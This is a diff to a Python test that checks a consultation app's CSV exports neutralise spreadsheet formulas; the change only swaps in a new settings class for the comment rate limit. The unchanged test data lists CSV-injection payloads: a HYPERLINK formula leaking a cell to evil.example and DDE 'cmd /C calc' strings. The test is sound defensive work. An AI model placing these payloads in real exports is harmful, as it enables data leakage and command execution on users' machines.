@@ -11,6 +11,7 @@ from datetime import timedelta
 from app.clock import utc_now
 from app.csv_export import FORMULA_START, safe_cell, to_csv
 from app.db import unit_of_work
+from consultations.config import ConsultationSettings
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab first", "\r=1+1 carriage return first"]
@@ -84,7 +85,7 @@ def test_every_csv_export_neutralises_formulas(app, client, make_client, helpers
         cid = service.create_consultation(s, user_id=official.id, data=data).id
     with uow() as s:
         service.change_state(s, user_id=official.id, consultation_id=cid, action="open")
-    limits = service.CommentLimits(comment_rate="1000/60")
+    limits = ConsultationSettings(comment_rate_limit="1000/60")
     texts = [f"{h} {t}" for h, t in zip(HOSTILE * 3, BIKES + BUSES)] + BIKES[:3] + BUSES[:3]
     comment_ids = []
     for i, body in enumerate(texts):
